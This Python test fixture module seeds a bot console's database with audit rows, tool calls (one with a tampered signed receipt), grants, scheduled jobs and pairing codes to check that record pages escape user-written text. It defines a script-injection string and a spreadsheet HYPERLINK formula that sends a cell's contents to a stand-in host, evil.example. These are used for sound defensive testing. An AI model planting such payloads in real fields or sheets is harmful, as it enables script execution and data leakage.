"""Records for the console's record pages, written through the store's own repositories and
books into the rig's database: audit rows, turns with tool calls, grants, scheduled jobs and
pairing codes. Text that people or models write carries markup and formula starts, so the
pages are seen to escape it."""

from __future__ import annotations

import json
import time
from dataclasses import replace

from bot.envelope import ChannelRef
from bot.schedules.book import ScheduleBook
from bot.schedules.job import JobSpec, ScheduledJob, StoredTarget
from bot.store import Store
from bot.store.audit import AuditEntry, Decision
from bot.store.grants import NewGrant
from bot.store.pairings import PairingRecord
from bot.store.tool_calls import ToolCallRecord
from bot.tools.receipt import ReceiptSigner
from tests.store.records import envelope, turn

TELEGRAM = "telegram.main"
#: A channel the rig does not run and its approver does not approve.
OTHER = "slack.ops"
HOSTILE = "<script>window.pwned = 1</script><b>bold</b>"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
TOOLS = ("deploy", "shell", "write_file")


async def audit_rows(store: Store, count: int, *, start: float | None = None) -> list[int]:
    """``count`` decisions, one second apart and oldest first, on both channels; every
    tenth a hostile requester on Telegram. Their ids."""
    base = (time.time() - count - 60) if start is None else start
    ids = []
    for i in range(count):
        hostile = i % 10 == 0
        ids.append(
            await store.audit.append(
                AuditEntry(
                    at=base + i,
                    channel=OTHER if i % 3 == 2 else TELEGRAM,
                    conversation_id=f"c{i % 4}",
                    requester=FORMULA if hostile else f"u{i % 5}",
                    tool=TOOLS[i % len(TOOLS)],
                    summary=json.dumps([f"version: v{i}", f"note: {HOSTILE if hostile else 'ok'}"]),
                    fingerprint="f" * 64,
                    decision=Decision.DENIED if i % 4 == 0 else Decision.APPROVED,
                    decided_by="2002" if i % 2 else "runtime",
                    reason="web" if i % 5 == 0 else "click",
                )
            )
        )
    return ids


async def turns(store: Store) -> tuple[str, str]:
    """A Telegram turn whose message is hostile markup, and a turn on the other channel:
    their turn ids (each with one recorded tool call)."""
    mine = await turn(store, envelope("1001", "1001", "m-tg", text=HOSTILE, direct=True))
    other_channel = ChannelRef(kind="slack", alias="ops")
    theirs = await turn(store, envelope("U9", "C9", "m-sl", text="other", channel=other_channel))
    return mine, theirs


async def signed_calls(store: Store, turn_id: str, session_key: str, key: str) -> None:
    """Two more calls of the turn ``turn_id``, signed with ``key``: ``ping`` as it was
    signed, ``fetch`` with its stored result changed afterwards."""
    signer = ReceiptSigner(key.encode())
    for tool, changed in (("ping", False), ("fetch", True)):
        record = ToolCallRecord(
            turn_id=turn_id,
            call_id=f"c-{tool}",
            session_key=session_key,
            channel=TELEGRAM,
            tool=tool,
            arguments=json.dumps({"host": "db1", "api_key": "[masked]"}),
            status="executed",
            synthetic=False,
            observation="pong",
            duration_ms=12.5,
            approved_by="2002",
            arguments_sha256="a" * 64,
            result_sha256="b" * 64,
            created_at=time.time(),
        )
        sealed = replace(record, receipt=signer.receipt_for(record))
        await store.tool_calls.record(
            replace(sealed, observation="tampered") if changed else sealed
        )


async def grant(store: Store, tool: str = "deploy", *, scope_key: str = TELEGRAM) -> int:
    return await store.grants.create(
        NewGrant(
            tool=tool,
            scope="channel",
            scope_key=scope_key,
            granted_by="2002",
            created_at=time.time(),
        )
    )


async def job(store: Store, name: str = "standup") -> ScheduledJob:
    origin = StoredTarget(channel=TELEGRAM, conversation_id="1001")
    spec = JobSpec(
        prompt=f"Summarise the night's alerts {HOSTILE}",
        name=name,
        cron="0 9 * * *",
        origin=origin,
        target=origin,
        creator_id="1001",
        creator_name="Requester",
    )
    return await ScheduleBook(store.schedules).add(spec, now=time.time())


async def pairing(store: Store, code: str, user_id: str = "5005") -> None:
    now = time.time()
    await store.pairings.create(
        PairingRecord(
            code=code,
            channel=TELEGRAM,
            user_id=user_id,
            display_name=f"Mallory {HOSTILE}",
            status="pending",
            created_at=now,
            expires_at=now + 3600,
        )
    )
